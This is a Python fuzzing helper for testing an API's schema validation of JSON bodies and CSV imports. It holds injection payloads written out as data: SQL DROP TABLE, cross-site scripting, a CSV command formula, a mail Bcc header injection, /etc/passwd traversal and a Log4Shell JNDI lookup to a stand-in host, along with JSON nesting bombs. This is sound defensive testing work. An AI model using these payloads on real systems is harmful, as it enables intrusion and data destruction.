"""JSON documents and CSV files that are wrong, or only look so; the contract's schema says which."""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import jsonschema

DEPTH = 50_000
UNREADABLE = re.compile(r"\\u0000|\\ud800")  # in no text that JSON of ours may hold
LONG = "A" * 600_000

# What a text may hold that somebody behind us might run, open or send.
TEXTS = {
    "Sql": "'; DROP TABLE orders; --",
    "Template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "Markup": "<script>alert(1)</script>",
    "Formula": "=cmd|' /C calc'!A0",
    "MailHeader": "a@b.test\r\nBcc: evil@evil.test",
    "LineEnd": "one\ntwo",
    "Traversal": "../../../../etc/passwd",
    "Log4": "${jndi:ldap://evil.test/a}",
    "Format": "%n%s%x%p",
    "RightToLeft": "\u202egnp.exe",
    "Nul": "a\u0000b",
    "LoneSurrogate": "a\ud800b",
    "Long": LONG,
    "Empty": "",
}
NUMBERS = {"Negative": -1, "Huge": 2**63, "Huger": 10**40, "Float": 1.5, "Exponent": 1e308, "Zero": 0, "MinusHuge": -(2**63)}
OTHERS = {"Null": None, "True": True, "Array": [], "Object": {}, "Deep": [[[[[]]]]]}


def written(document: Any) -> bytes:
    return json.dumps(document, ensure_ascii=True).encode()


def fits(value: Any, schema: dict[str, Any]) -> bool:
    """Whether the contract takes it. A value of a query is a text: numbers and flags are read from it."""
    if isinstance(value, str) and schema.get("type") in ("integer", "boolean"):
        if schema["type"] == "boolean" or not value.lstrip("-").isdigit():
            return value in ("true", "false")
        value = int(value)
    if isinstance(value, dict | list) and UNREADABLE.search(json.dumps(value)):
        return False
    return validator_of(json.dumps(schema)).is_valid(value)


@functools.cache
def validator_of(schema: str) -> jsonschema.Draft202012Validator:
    return jsonschema.Draft202012Validator(json.loads(schema))


def free_text(schema: dict[str, Any]) -> bool:
    return schema.get("type") == "string" and "pattern" not in schema and "enum" not in schema and "format" not in schema


def unreadable(document: Any) -> dict[str, bytes]:
    """What is no JSON document (RFC 8259), or one that means two things."""
    good = json.dumps(document)
    first = next(iter(document))
    return {
        "EmptyBody": b"",
        "Cut": good[:-1].encode(),
        "TwoDocuments": (good + good).encode(),
        "Comment": good.replace("{", "{/* */", 1).encode(),
        "TrailingComma": (good[:-1] + ",}").encode(),
        "SingleQuotes": good.replace('"', "'").encode(),
        "NotANumber": good.replace("{", '{"a": NaN, ', 1).encode(),
        "MemberTwice": good.replace("{", "{" + json.dumps(first) + ": null, ", 1).encode(),
        "NotUtf8": good.replace("{", '{"a": "', 1).encode() + b'\xff\xfe"}',
        "Utf16": good.encode("utf-16"),
        "NulInAText": good.replace("{", '{"a": "\\u0000", ', 1).encode(),
        "NulOutside": (good + "\x00").encode(),
        "LoneSurrogate": good.replace("{", '{"a": "\\ud800", ', 1).encode(),
        "ControlInAText": good.replace("{", '{"a": "\x01", ', 1).encode(),
        "BombOfArrays": b"[" * DEPTH,
        "BombOfObjects": b'{"a":' * DEPTH,
        "BombThatCloses": b"[" * DEPTH + b"]" * DEPTH,
        "BombInside": good.replace("{", '{"a": ' + "[" * 40 + "]" * 40 + ", ", 1).encode(),
        "Gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    }


def places(node: Any, schema: dict[str, Any], path: tuple = ()) -> Iterator[tuple]:
    """Where a value stands, or might stand by the schema."""
    if path:
        yield path
    if isinstance(node, dict):
        for key in {**node, **schema.get("properties", {})}:
            yield from places(node.get(key), schema.get("properties", {}).get(key, {}), (*path, key))
    if isinstance(node, list) and node:
        yield from places(node[0], schema.get("items", {}), (*path, 0))


def put(document: Any, path: tuple, value: Any) -> Any:
    node = document
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return document


def changed(make: Callable[[], Any], schema: dict[str, Any]) -> Iterator[tuple[str, Any, str]]:
    """(name, document, text inside): at each place each value; each place missing; a member more. `make` makes a
    good document, each time another: what is taken names what nothing else names."""
    for label, value in {**NUMBERS, **OTHERS}.items():
        yield f"{label}AsBody", value, ""
    for path in places(make(), schema):
        name = "/".join(map(str, path))
        for label, value in {**TEXTS, **NUMBERS, **OTHERS}.items():
            yield f"{label}In:{name}", put(make(), path, value), value if isinstance(value, str) else ""
        if isinstance(path[-1], str):
            missing = put(make(), path, None)
            node = missing
            for part in path[:-1]:
                node = node[part]
            del node[path[-1]]
            yield f"Missing:{name}", missing, ""
    for member in ("price", "id", "role", "customer_id", "__proto__", "a" * 10_000):
        yield f"MemberMore:{member[:20]}", {**make(), member: 1}, ""


def hostile_files(good: bytes) -> dict[str, bytes]:
    """Files for the import; most are taken, and their rows refused one by one in its report."""
    header, row = good.splitlines(keepends=True)[:2]
    return {
        "FileEmpty": b"",
        "FileWithoutRows": header,
        "FileWithoutHeader": row,
        "FileNotUtf8": header + row.replace(b"Mug", b"\xff\xfe"),
        "FileUtf16": good.decode().encode("utf-16"),
        "FileWithNul": header + row.replace(b"Mug", b"M\x00g"),
        "FileOfQuotes": header + b'"' * 10_001,
        "FileQuoteOpen": header + row.replace(b"Mug", b'"Mug'),
        "FileQuoteStray": header + row.replace(b"Mug", b'"M"ug'),
        "FileLineWithoutEnd": header + b"x" * (2 * 1024 * 1024),
        "FileOfCommas": header + b"," * 200_000,
        "FileManyColumns": b",".join(b"c%d" % n for n in range(20_000)) + b"\n" + row,
        "FileHeaderTwice": header.replace(b"Title", b"Handle") + row,
        "FileFormula": header + row.replace(b"Mug", b"=cmd|' /C calc'!A0"),
        "FileSql": header + row.replace(b"Mug", b"'; DROP TABLE orders; --"),
        "FilePriceNegative": header + row.replace(b"9.00", b"-9.00"),
        "FilePriceHuge": header + row.replace(b"9.00", b"9" * 400),
        "FilePriceNan": header + row.replace(b"9.00", b"NaN"),
        "FileQuantityNegative": header + row.replace(b",5", b",-5"),
        "FileQuantityHuge": header + row.replace(b",5", b"," + b"9" * 40),
        "FileHandleTraversal": header + row.replace(b"hostile-mug", b"../../etc/passwd"),
        "FileZip": b"PK\x03\x04" + b"\x00" * 200,
        "FileGzip": b"\x1f\x8b\x08\x00" + b"\x00" * 200,
    }
